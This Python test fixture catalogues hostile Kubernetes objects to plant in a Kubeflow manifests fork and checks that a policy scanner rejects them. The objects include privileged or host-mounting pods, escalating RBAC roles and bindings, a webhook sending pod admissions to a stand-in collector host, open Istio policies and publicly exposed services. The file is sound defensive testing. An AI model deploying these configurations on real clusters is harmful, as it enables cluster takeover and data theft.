"""Hostile objects an attacker with a manifests fork would plant, by class, in several spellings.

Each entry: (class, object, the rule its error must carry, what the message must say).
`USER_NAMESPACE` stands for a profile namespace of the stack under test; `planted(user)`
puts the real one in.
"""

from __future__ import annotations

import copy
import json
import shutil
from pathlib import Path
from typing import Any

import yaml

Manifest = dict[str, Any]
# The real component the hostile objects are added to (the kubeflow namespaces).
COMPONENT = Path("common/kubeflow-namespace/base")
USER_NAMESPACE = "{{user}}"
PRIVILEGED = {"privileged": True}


def _meta(name: str, namespace: str | None = "kubeflow") -> Manifest:
    return {"name": name, **({"namespace": namespace} if namespace else {})}


def _cr(api_version: str, kind: str, name: str, spec: Manifest, **extra: Any) -> Manifest:
    return {"apiVersion": api_version, "kind": kind, "metadata": _meta(name), "spec": spec, **extra}


def _job_yaml(security: Manifest) -> str:
    job = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "spec": {
            "template": {
                "spec": {"containers": [{"name": "t", "image": "x", "securityContext": security}]}
            }
        },
    }
    return yaml.safe_dump(job)


POD_SHAPES: list[tuple[Manifest, str]] = [
    (
        _cr(
            "argoproj.io/v1alpha1",
            "WorkflowTemplate",
            "wf-container",
            {
                "templates": [
                    {"name": "a", "container": {"image": "x", "securityContext": PRIVILEGED}}
                ]
            },
        ),
        "privileged",
    ),
    (
        _cr(
            "argoproj.io/v1alpha1",
            "WorkflowTemplate",
            "wf-script",
            {
                "templates": [
                    {
                        "name": "s",
                        "script": {
                            "image": "x",
                            "source": "id",
                            "securityContext": {"capabilities": {"add": ["sys_admin"]}},
                        },
                    }
                ]
            },
        ),
        "SYS_ADMIN",
    ),
    (
        _cr(
            "serving.kserve.io/v1beta1",
            "InferenceService",
            "isvc-string-bool",
            {
                "predictor": {
                    "model": {
                        "modelFormat": {"name": "x"},
                        "securityContext": {"privileged": "true"},
                    }
                }
            },
        ),
        "privileged ('true')",
    ),
    (
        {
            "apiVersion": "serving.kserve.io/v1alpha1",
            "kind": "ClusterStorageContainer",
            "metadata": {"name": "evil-storage"},
            "spec": {
                "container": {"name": "s", "image": "x", "securityContext": {"privileged": "True"}}
            },
        },
        "privileged",
    ),
    (
        _cr(
            "sparkoperator.k8s.io/v1beta2",
            "SparkApplication",
            "spark",
            {
                "driver": {"cores": 1, "securityContext": {"privileged": 1}},
                "executor": {"hostNetwork": True},
            },
        ),
        "privileged",
    ),
    (
        _cr(
            "sparkoperator.k8s.io/v1beta2",
            "SparkApplication",
            "spark-host",
            {"executor": {"instances": 2, "hostNetwork": "yes"}},
        ),
        "hostNetwork",
    ),
    (
        _cr(
            "tekton.dev/v1",
            "Task",
            "steps",
            {
                "steps": [
                    {
                        "name": "s",
                        "image": "x",
                        "securityContext": {"runAsUser": 0, "privileged": True},
                    }
                ]
            },
        ),
        "privileged",
    ),
    (
        _cr(
            "trainer.kubeflow.org/v1alpha1",
            "TrainJob",
            "overrides",
            {
                "podTemplateOverrides": [
                    {"spec": {"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}}
                ]
            },
        ),
        "hostPath (/)",
    ),
    (
        _cr("argoproj.io/v1alpha1", "Workflow", "wf-host", {"hostPID": True, "entrypoint": "a"}),
        "hostPID",
    ),
    (
        _cr(
            "argoproj.io/v1alpha1",
            "Workflow",
            "wf-patch",
            {
                "entrypoint": "a",
                "podSpecPatch": json.dumps(
                    {"containers": [{"name": "main", "securityContext": PRIVILEGED}]}
                ),
            },
        ),
        "privileged",
    ),
    (
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": _meta("trial-template"),
            "data": {"template.yaml": _job_yaml({"capabilities": {"add": ["NET_ADMIN"]}})},
        },
        "NET_ADMIN",
    ),
    (
        _cr(
            "example.com/v1",
            "Agent",
            "unknown-kind",
            {
                "runner": {
                    "image": "x",
                    "securityContext": {"allowPrivilegeEscalation": True, "privileged": "on"},
                }
            },
        ),
        "privileged",
    ),
]


def _role(kind: str, name: str, rules: list[Manifest], **labels: str) -> Manifest:
    meta = _meta(name, "kubeflow" if kind == "Role" else None)
    if labels:
        meta["labels"] = labels
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": kind,
        "metadata": meta,
        "rules": rules,
    }


def _binding(
    name: str, role: str, subject: Manifest, *, kind: str = "ClusterRoleBinding"
) -> Manifest:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": kind,
        "metadata": _meta(name, "kubeflow" if kind == "RoleBinding" else None),
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [subject],
    }


def _group(name: str) -> Manifest:
    return {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": name}


RBAC: list[tuple[Manifest, str, str]] = [
    (
        _binding("anon", "view", {"kind": "User", "name": "system:anonymous"}),
        "policy.rbac-binding",
        "system:anonymous",
    ),
    (
        _binding("unauth", "view", _group("system:unauthenticated")),
        "policy.rbac-binding",
        "system:unauthenticated",
    ),
    (
        _binding("all-sa", "cluster-admin", _group("system:serviceaccounts")),
        "policy.rbac-binding",
        "system:serviceaccounts",
    ),
    (
        _binding("ns-sa", "edit", _group("system:serviceaccounts:kubeflow"), kind="RoleBinding"),
        "policy.rbac-binding",
        "system:serviceaccounts:kubeflow",
    ),
    (
        _binding(
            "user-sa",
            "cluster-admin",
            {"kind": "ServiceAccount", "name": "default-editor", "namespace": USER_NAMESPACE},
        ),
        "policy.rbac-binding",
        "user namespace",
    ),
    (
        _binding(
            "user-sa-as-user",
            "admin",
            {"kind": "User", "name": f"system:serviceaccount:{USER_NAMESPACE}:default"},
        ),
        "policy.rbac-binding",
        "user namespace",
    ),
    (
        _role(
            "ClusterRole",
            "escalate",
            [
                {
                    "apiGroups": ["rbac.authorization.k8s.io"],
                    "resources": ["clusterroles"],
                    "verbs": ["escalate"],
                }
            ],
        ),
        "policy.rbac-escalation",
        "escalate",
    ),
    (
        _role(
            "Role",
            "binder",
            [
                {
                    "apiGroups": ["rbac.authorization.k8s.io"],
                    "resources": ["rolebindings", "roles"],
                    "verbs": ["bind", "create"],
                }
            ],
        ),
        "policy.rbac-escalation",
        "bind",
    ),
    (
        _role(
            "ClusterRole",
            "impersonator",
            [{"apiGroups": [""], "resources": ["users", "groups"], "verbs": ["impersonate"]}],
        ),
        "policy.rbac-escalation",
        "impersonate",
    ),
    (
        _role(
            "Role",
            "token-minter",
            [{"apiGroups": [""], "resources": ["serviceaccounts/token"], "verbs": ["create"]}],
        ),
        "policy.rbac-escalation",
        "serviceaccounts/token",
    ),
    (
        _role(
            "ClusterRole",
            "kubelet",
            [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}],
        ),
        "policy.rbac-escalation",
        "nodes/proxy",
    ),
    (
        _role(
            "ClusterRole",
            "star-groups",
            [{"apiGroups": ["*"], "resources": ["pods"], "verbs": ["get"]}],
        ),
        "policy.rbac-escalation",
        "apiGroups '*'",
    ),
    (
        _role(
            "ClusterRole",
            "star-core",
            [{"apiGroups": [""], "resources": ["*"], "verbs": ["get", "list"]}],
        ),
        "policy.rbac-escalation",
        "resources '*'",
    ),
    (
        _role(
            "ClusterRole",
            "star-rbac",
            [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles"], "verbs": ["*"]}],
        ),
        "policy.rbac-escalation",
        "verbs '*'",
    ),
    (
        _role(
            "ClusterRole",
            "folded",
            [{"apiGroups": [""], "resources": ["serviceaccounts"], "verbs": ["impersonate"]}],
            **{"rbac.authorization.kubeflow.org/aggregate-to-kubeflow-edit": "true"},
        ),
        "policy.rbac-aggregation",
        "aggregate-to-kubeflow-edit",
    ),
    (
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {
                **_meta("forever"),
                "annotations": {"kubernetes.io/service-account.name": "ml-pipeline"},
            },
            "type": "kubernetes.io/service-account-token",
        },
        "policy.service-account-token",
        "long-lived",
    ),
]


def _webhook(kind: str, name: str, client: Manifest, rules: list[Manifest]) -> Manifest:
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": f"{name}.example.com",
                "clientConfig": client,
                "rules": rules,
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
                "failurePolicy": "Ignore",
            }
        ],
    }


_POD_RULE = {
    "apiGroups": [""],
    "apiVersions": ["v1"],
    "operations": ["CREATE"],
    "resources": ["pods"],
}
_SVC = {"service": {"name": "admission-webhook-service", "namespace": "kubeflow"}}
ADMISSION: list[tuple[Manifest, str, str]] = [
    (
        _webhook(
            "ValidatingWebhookConfiguration",
            "exfil-url",
            {"url": "https://collector.example.com/v"},
            [_POD_RULE],
        ),
        "policy.webhook-url",
        "collector.example.com",
    ),
    (
        _webhook(
            "MutatingWebhookConfiguration",
            "exfil-ip",
            {"url": "https://10.0.0.1:8443/"},
            [_POD_RULE],
        ),
        "policy.webhook-url",
        "10.0.0.1",
    ),
    (
        _webhook(
            "MutatingWebhookConfiguration",
            "secret-reader",
            _SVC,
            [{**_POD_RULE, "resources": ["secrets"]}],
        ),
        "policy.webhook-secrets",
        "Secrets",
    ),
    (
        _webhook(
            "ValidatingWebhookConfiguration",
            "star-reader",
            _SVC,
            [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
        ),
        "policy.webhook-secrets",
        "Secrets",
    ),
]


def _policy(name: str, namespace: str, spec: Manifest) -> Manifest:
    return {
        "apiVersion": "security.istio.io/v1",
        "kind": "AuthorizationPolicy",
        "metadata": _meta(name, namespace),
        "spec": spec,
    }


MESH: list[tuple[Manifest, str, str]] = [
    (
        _policy("open-mesh", "istio-system", {"rules": [{}]}),
        "policy.mesh-allow-all",
        "every workload of the mesh",
    ),
    (
        _policy(
            "open-kfp",
            "kubeflow",
            {
                "action": "ALLOW",
                "selector": {"matchLabels": {"app": "ml-pipeline"}},
                "rules": [{"to": [{"operation": {"paths": ["*"]}}]}],
            },
        ),
        "policy.mesh-allow-all",
        "allows every request",
    ),
    (
        _policy(
            "open-ip", "kubeflow", {"rules": [{"from": [{"source": {"ipBlocks": ["0.0.0.0/0"]}}]}]}
        ),
        "policy.mesh-allow-all",
        "allows every request",
    ),
    (
        {
            "apiVersion": "security.istio.io/v1beta1",
            "kind": "PeerAuthentication",
            "metadata": _meta("plain", "istio-system"),
            "spec": {"mtls": {"mode": "DISABLE"}},
        },
        "policy.mesh-mtls-disabled",
        "DISABLE",
    ),
    (
        {
            "apiVersion": "security.istio.io/v1",
            "kind": "PeerAuthentication",
            "metadata": _meta("plain-port"),
            "spec": {"portLevelMtls": {"3306": {"mode": "disable"}}},
        },
        "policy.mesh-mtls-disabled",
        "port 3306",
    ),
    (
        {
            "apiVersion": "networking.istio.io/v1alpha3",
            "kind": "EnvoyFilter",
            "metadata": _meta("no-authz", "istio-system"),
            "spec": {
                "workloadSelector": {"labels": {"istio": "ingressgateway"}},
                "configPatches": [
                    {
                        "applyTo": "HTTP_FILTER",
                        "match": {
                            "listener": {
                                "filterChain": {
                                    "filter": {
                                        "subFilter": {"name": "envoy.filters.http.ext_authz"}
                                    }
                                }
                            }
                        },
                        "patch": {"operation": "REMOVE"},
                    }
                ],
            },
        },
        "policy.mesh-auth-filter",
        "ext_authz",
    ),
    (
        {
            "apiVersion": "networking.istio.io/v1alpha3",
            "kind": "EnvoyFilter",
            "metadata": _meta("lua-first", "istio-system"),
            "spec": {
                "workloadSelector": {"labels": {"istio": "ingressgateway"}},
                "configPatches": [
                    {
                        "applyTo": "HTTP_FILTER",
                        "patch": {"operation": "INSERT_FIRST", "value": {"name": "lua"}},
                    }
                ],
            },
        },
        "policy.mesh-auth-filter",
        "ingress gateway",
    ),
]


def _service(name: str, app: str, **spec: Any) -> Manifest:
    return {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": _meta(name),
        "spec": {"selector": {"app": app}, "ports": [{"port": 80}], **spec},
    }


def _volume(name: str, **spec: Any) -> Manifest:
    capacity = {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"]}
    return {
        "apiVersion": "v1",
        "kind": "PersistentVolume",
        "metadata": {"name": name},
        "spec": {**capacity, **spec},
    }


EXPOSURE: list[tuple[Manifest, str, str]] = [
    (
        _service("mysql-public", "mysql", type="LoadBalancer"),
        "policy.exposed-service",
        "type LoadBalancer",
    ),
    (
        _service("store-nodeport", "seaweedfs", type="NodePort"),
        "policy.exposed-service",
        "type NodePort",
    ),
    (
        _service("registry-ips", "model-registry-server", externalIPs=["203.0.113.7"]),
        "policy.exposed-service",
        "externalIPs",
    ),
    (
        _service(
            "registry-open",
            "model-registry-server",
            type="LoadBalancer",
            loadBalancerSourceRanges=["0.0.0.0/0"],
        ),
        "policy.exposed-service",
        "0.0.0.0/0",
    ),
    (
        _volume(
            "node-root",
            hostPath={"path": "/"},
            claimRef={"namespace": USER_NAMESPACE, "name": "grab"},
        ),
        "policy.host-volume",
        "user namespace",
    ),
    (
        _volume(
            "node-local",
            local={"path": "/var/lib"},
            nodeAffinity={
                "required": {
                    "nodeSelectorTerms": [
                        {"matchExpressions": [{"key": "a", "operator": "Exists"}]}
                    ]
                }
            },
        ),
        "policy.host-volume",
        "local volume",
    ),
    (
        {
            "apiVersion": "v1",
            "kind": "Namespace",
            "metadata": {
                "name": "lowered",
                "labels": {"pod-security.kubernetes.io/enforce": "privileged"},
            },
        },
        "policy.namespace-pod-security",
        "lowers Pod Security",
    ),
    (
        {
            "apiVersion": "v1",
            "kind": "Namespace",
            "metadata": {
                "name": "misspelt",
                "labels": {"pod-security.kubernetes.io/enforce": "Privileged "},
            },
        },
        "policy.namespace-pod-security",
        "is not a level",
    ),
]

# The claim the host volume above is pre-bound to: data, protected in prod like any other.
USER_CLAIM: Manifest = {
    "apiVersion": "v1",
    "kind": "PersistentVolumeClaim",
    "metadata": {"name": "grab", "namespace": USER_NAMESPACE},
    "spec": {
        "accessModes": ["ReadWriteOnce"],
        "volumeName": "node-root",
        "resources": {"requests": {"storage": "1Gi"}},
    },
}

CLASSES: dict[str, list[tuple[Manifest, str, str]]] = {
    "pod-shapes": [(m, "policy.pod-security", what) for m, what in POD_SHAPES],
    "rbac": RBAC,
    "admission": ADMISSION,
    "mesh": MESH,
    "exposure": EXPOSURE,
}


def planted(user: str) -> list[tuple[str, Manifest, str, str]]:
    """Return (class, object, rule, what) of every hostile object, in the namespace `user`."""
    out = []
    for name, entries in CLASSES.items():
        for manifest, rule, what in entries:
            text = json.dumps(manifest).replace(USER_NAMESPACE, user)
            out.append((name, json.loads(text), rule, what.replace(USER_NAMESPACE, user)))
    return out


def user_claim(user: str) -> Manifest:
    """The user's claim of the pre-bound host volume."""
    claim = copy.deepcopy(USER_CLAIM)
    claim["metadata"]["namespace"] = user
    return claim


def plant(manifests: Path, root: Path, objects: list[Manifest]) -> Path:
    """Copy the release's `COMPONENT` and `example` under `root`, with `objects` added to it.

    Returns `root`: a manifests source that plans the component as the release has it, plus
    what an attacker with a fork would add.
    """
    shutil.copytree(manifests / COMPONENT, root / COMPONENT)
    shutil.copytree(manifests / "example", root / "example")
    (root / COMPONENT / "hostile.yaml").write_text(yaml.safe_dump_all(objects))
    kustomization = root / COMPONENT / "kustomization.yaml"
    document = yaml.safe_load(kustomization.read_text())
    document["resources"].append("hostile.yaml")
    kustomization.write_text(yaml.safe_dump(document))
    return root
